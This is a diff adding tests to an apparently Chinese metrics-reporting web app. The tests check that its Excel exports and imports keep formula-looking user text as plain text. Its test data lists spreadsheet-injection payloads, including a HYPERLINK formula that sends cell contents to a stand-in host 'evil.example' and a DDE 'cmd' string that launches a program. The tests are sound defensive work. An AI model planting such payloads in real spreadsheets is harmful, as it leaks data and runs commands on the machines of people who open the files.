@@ -248,3 +248,92 @@ def test_reviewer_downloads_every_department_in_one_workbook(
     assert next(r for r in rows if r[2] == "grass_patrol_townships")[7:9] == ("本期未填报", "未填")
     client.login(username="clerk_sfj", password=demo.DEMO_PASSWORD)
     assert client.get("/review/2026/export.xlsx").status_code == 403
+
+
+# --- text that looks like a formula stays text --------------------------------------------
+
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?d="&A2,"点击核对")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+
+
+def _no_formulas(data: bytes):
+    """No sheet of the file holds a formula element."""
+    import re
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
+
+
+def _is_plain_text(cell, text):
+    assert cell.value == text  # readable, exactly as written
+    assert cell.data_type == "s" and cell.data_type != "f"
+    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
+
+
+def test_the_reviewer_export_writes_remarks_as_text_not_formulas(client, reviewer, period):
+    from metrics.models import Indicator
+
+    remark, explanation, reason, other = HOSTILE_TEXTS[:4]
+    Figure.objects.create(
+        indicator=Indicator.objects.get(code="biz_review_cases_received"),
+        period=period,
+        value=64,
+        remark=remark,
+        explanation=explanation,
+        return_reason=reason,
+        status=FigureStatus.RETURNED,
+    )
+    Figure.objects.create(
+        indicator=Indicator.objects.get(code="biz_inhouse_counsel"),
+        period=period,
+        value=3,
+        remark=other,
+    )
+    client.force_login(reviewer)
+    response = client.get("/review/2026/export.xlsx")
+    assert response.status_code == 200
+    _no_formulas(response.content)
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    rows = {r[2].value: r for r in sheet.iter_rows(min_row=2)}
+    received = rows["biz_review_cases_received"]
+    _is_plain_text(received[header.index("备注")], remark)
+    _is_plain_text(received[header.index("上报说明")], explanation)
+    _is_plain_text(received[header.index("退回原因")], reason)
+    _is_plain_text(rows["biz_inhouse_counsel"][header.index("备注")], other)
+    value = received[header.index("本期数值")]
+    assert (value.value, value.data_type) == (64, "n")  # numbers stay numbers
+    assert not received[header.index("部门")].quotePrefix  # ordinary text is left alone
+
+
+def test_the_clerk_sheet_writes_names_as_text(clerk_client, sfj, period):
+    from tests import factories
+
+    factories.IndicatorFactory(
+        code="biz_formula_named", department=sfj, name=HOSTILE_TEXTS[0], unit="@件"
+    )
+    response = clerk_client.get("/entry/2026/sheet.xlsx")
+    _no_formulas(response.content)
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "biz_formula_named")
+    _is_plain_text(row[1], HOSTILE_TEXTS[0])
+    _is_plain_text(row[2], "@件")
+
+
+def test_a_formula_looking_remark_round_trips_unchanged(clerk_client, period):
+    """The clerk's own remark, typed as text, is imported exactly and exported as text."""
+    workbook = _sheet(clerk_client)
+    _fill(workbook.worksheets[0], {"biz_inhouse_counsel": (3, None)})
+    for row in workbook.worksheets[0].iter_rows(min_row=2):
+        if row[0].value == "biz_inhouse_counsel":
+            row[5].value = HOSTILE_TEXTS[3]  # "@SUM(A1:A9)": openpyxl keeps it a string
+    assert "已从 Excel 导入 1 项数据" in _upload(clerk_client, workbook)[0]
+    assert Figure.objects.get(indicator__code="biz_inhouse_counsel").remark == HOSTILE_TEXTS[3]
